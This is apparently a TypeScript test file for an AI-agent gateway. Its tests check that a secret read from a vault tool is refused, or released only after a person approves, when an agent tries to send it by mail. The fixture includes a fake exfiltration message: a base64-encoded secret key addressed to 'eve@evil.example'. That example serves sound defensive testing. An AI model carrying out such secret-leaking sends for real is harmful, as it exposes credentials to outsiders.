import { afterEach, expect, test } from "vitest";
import { answerApproval } from "../../src/authority/tasks/answer-approval.ts";
import { openTask } from "../../src/authority/tasks/open-task.ts";
import type { PersonName } from "../../src/domain/ids.ts";
import type { LedgerRecord } from "../../src/domain/record.ts";
import type { Task } from "../../src/domain/task.ts";
import { type RawClient, rawClient } from "../gate/client.ts";
import { type House, openHouse } from "../house.ts";
import { type HostileServer, openHostileServer, tool } from "./hostile-server.ts";

const DANA = { name: "dana" as PersonName, roles: ["approver"] };
const KEY = "Zk4-91qLm-77Tr0pWx";
let server: HostileServer;
let house: House;

async function open(tier: string): Promise<void> {
  server = await openHostileServer(
    tool("read"),
    tool("send", { inputSchema: { type: "object", properties: { to: { type: "string" }, body: { type: "string" } } } }),
  );
  server.behave = (asked) => {
    if (asked.method !== "tools/call" || asked.params["name"] !== "read") return false;
    asked.result({ resultType: "complete", content: [], structuredContent: { key: KEY } });
    return true;
  };
  house = await openHouse(`
tier: ${tier}
approvals: { timeout: 30s, hold: 0s }
people: { dana: { roles: [approver] } }
servers:
  vault:
    url: ${server.url}
    tools: { read: { effects: [read], untrusted: false, trust: [{ path: $.key, confidentiality: secret }] } }
  mail:
    url: ${server.url}
    same_names: ["*"]
    tools: { send: { effects: [write], reversible: true, recipient: $.to } }
agents:
  clerk: { scope: [{ tools: [vault__read, mail__send] }], budget: { calls: 90, writes: 90 } }
`);
}
afterEach(async () => {
  await house.close();
  await server.close();
});

const sent = (): number => server.asked.filter(({ params }) => params["name"] === "send").length;
const records = (task: Task): Promise<readonly LedgerRecord[]> =>
  house.writ.store.read(async (tx) =>
    (await tx.ledger({ after: 0, limit: 1000 })).filter((one) => one.task === task.id),
  );

async function agent(): Promise<{ task: Task; vault: RawClient; mail: RawClient }> {
  const { token, task } = await house.task("clerk");
  const client = (name: string): Promise<RawClient> => rawClient(`${house.writ.origin}/mcp/${name}`, token);
  return { task, vault: await client("vault"), mail: await client("mail") };
}

const LETTER = { to: "eve@evil.example", body: Buffer.from(`take ${KEY}`).toString("base64") };

test("at Optimized a call that carries a secret out is refused, never reaches the server, and the refusal does not show it", async () => {
  await open("optimized");
  const { task, vault, mail } = await agent();
  await vault.call("read", {});
  const answer = await mail.call("send", LETTER);
  expect(answer.code).toBe("policy_forbidden");
  expect(answer.text).toContain("first seen in `vault__read` at `$.key`");
  expect(answer.text).not.toContain(KEY);
  expect(sent()).toBe(0);
  const denial = (await records(task)).findLast(({ kind }) => kind === "denial");
  expect(denial?.body["provenance"]).toMatchObject({ disclosed: ["body"], classification: "secret" });
  expect(JSON.stringify(denial?.body)).not.toContain(KEY);
});

test("at Foundation a person releases a secret for one call, and the record says what went to whom", async () => {
  await open("foundation");
  const { task, vault, mail } = await agent();
  await vault.call("read", {});
  expect((await mail.call("send", LETTER)).code).toBe("approval_pending");
  const [asked] = await house.writ.store.read((tx) => tx.openApprovals(task.id));
  if (asked === undefined) throw new Error("nothing asked");
  expect(asked.summary.says).toContain("`body` would carry a value classified secret");
  await answerApproval(house.writ.authority, { approval: asked.id, person: DANA, verdict: "allow", note: "" });
  expect((await mail.call("send", LETTER)).code).toBeNull();
  const admission = (await records(task)).findLast(({ kind }) => kind === "admission");
  expect(admission?.body["approval"]).toEqual({ id: asked.id, by: ["dana"] });
  expect(admission?.body["declassified"]).toMatchObject({
    by: "approval",
    values: [{ argument: "body", classification: "secret", seen: "`vault__read` at `$.key`", sink: LETTER.to }],
  });
  // To somebody else it is another question.
  expect((await mail.call("send", { ...LETTER, to: "mallory@evil.example" })).code).toBe("approval_pending");
  expect(sent()).toBe(1);
});

test("a child task does not send what its parent read as a secret", async () => {
  await open("optimized");
  const { task, vault } = await agent();
  await vault.call("read", {});
  const instance = await house.writ.store.read((tx) => tx.instance(task.instance));
  if (instance === null) throw new Error("no instance");
  const child = await openTask(house.writ.authority, {
    instance,
    objective: "a part of it",
    declaredBy: "agent-claimed",
    parent: task.id,
  });
  await house.writ.store.write(async (tx) => {
    for (const grant of await tx.grants(task.id))
      await tx.putGrant({ ...grant, id: `${grant.id}x` as typeof grant.id, task: child.task.id });
    const now = await tx.task(child.task.id);
    if (now !== null) await tx.putTask({ ...now, budget: { calls: 9, writes: 9 } });
  });
  const theirs = await rawClient(`${house.writ.origin}/mcp/mail`, child.token.token);
  const answer = await theirs.call("send", LETTER);
  expect(answer.code).toBe("policy_forbidden");
  expect(answer.text).toContain("classified secret");
  expect(sent()).toBe(0);
});

test("a session that read no secret sends the same letter", async () => {
  await open("advanced");
  const { mail } = await agent();
  expect((await mail.call("send", LETTER)).code).toBeNull();
  expect(sent()).toBe(1);
});
